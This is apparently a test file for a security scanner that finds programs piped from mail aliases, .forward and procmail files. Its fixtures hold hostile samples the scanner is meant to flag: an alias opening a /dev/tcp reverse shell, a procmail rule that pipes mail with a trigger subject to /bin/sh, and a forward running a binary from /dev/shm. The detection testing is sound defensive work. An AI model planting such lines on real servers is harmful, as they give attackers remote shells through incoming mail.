import fc from 'fast-check';
import { expect, test } from 'vitest';
import { mailPrograms } from '../../source/checks/mail-programs.ts';
import { parseMailPrograms } from '../../source/parsers/mail-aliases.ts';
import { debian } from '../support/debian.ts';
import { memoryHost, type Machine } from '../support/memory-host.ts';
import { run, told } from '../support/sweep-host.ts';

const ask = (machine: Machine) => told(run(mailPrograms, memoryHost(debian(['/usr/lib/mailman/mail/mailman', '/usr/bin/procmail'], machine))).findings);

test('pipes of aliases and of people', () => {
	expect(parseMailPrograms(Buffer.from('# |x\nroot: ann, "|/a b -c"\n\t, |/d\nlist: "|/usr/lib/mailman/mail/mailman post list"\npostmaster: root\n'))).toEqual([
		{ line: 2, alias: 'root', command: '/a b -c' },
		{ line: 3, alias: 'root', command: '/d' },
		{ line: 4, alias: 'list', command: '/usr/lib/mailman/mail/mailman post list' },
	]);
	expect(parseMailPrograms(Buffer.from('"|IFS=\' \' && exec /usr/bin/procmail -f- || exit 75 #ann"\n'))).toMatchObject([{ line: 1, alias: '', command: "IFS=' ' && exec /usr/bin/procmail -f- || exit 75 #ann" }]);
	expect(parseMailPrograms(Buffer.from(':0 c\n| /usr/bin/vacation ann\n'))).toMatchObject([{ line: 2, command: '/usr/bin/vacation ann' }]);
});

test('random bytes are taken', () => {
	fc.assert(fc.property(fc.uint8Array({ maxLength: 500 }), bytes => void parseMailPrograms(bytes)));
	fc.assert(fc.property(fc.string({ unit: fc.constantFrom(...'|"\\:,# \na') }), text => void parseMailPrograms(Buffer.from(text))));
});

test('lists and filters are ordinary', () => {
	expect(
		ask({
			'/etc/aliases': 'postmaster: root\nroot: ann\nlist: "|/usr/lib/mailman/mail/mailman post list"\n',
			'/usr/lib/mailman/mail/mailman': { mode: 0o755 },
			'/usr/bin/procmail': { mode: 0o755 },
			'/home/ann/.forward': { content: '"|IFS=\' \' && exec /usr/bin/procmail -f- || exit 75 #ann"\n', uid: 1000 },
		}),
	).toEqual([]);
});

test.each<[string, Machine, string[]]>([
	['an alias that is a shell', { '/etc/aliases': 'decode2: "|/bin/bash -c \'bash -i >& /dev/tcp/192.0.2.1/4 0>&1\'"\n' }, ['critical /etc/aliases']],
	['a letter that a shell reads', { '/home/ann/.procmailrc': { content: ':0\n* ^Subject:.*qwerty\n| /bin/sh\n', uid: 1000 }, '/etc/aliases': 'x: |"/usr/bin/perl -"\n' }, ['critical /etc/aliases', 'critical /home/ann/.procmailrc']],
	["somebody's forwarding", { '/home/ann/.forward': { content: '|/dev/shm/x\n', uid: 1000 }, '/dev/shm/x': { mode: 0o755 } }, ['high /home/ann/.forward']],
])('%s', (_name, machine, expected) => {
	expect(ask(machine)).toEqual(expected);
});
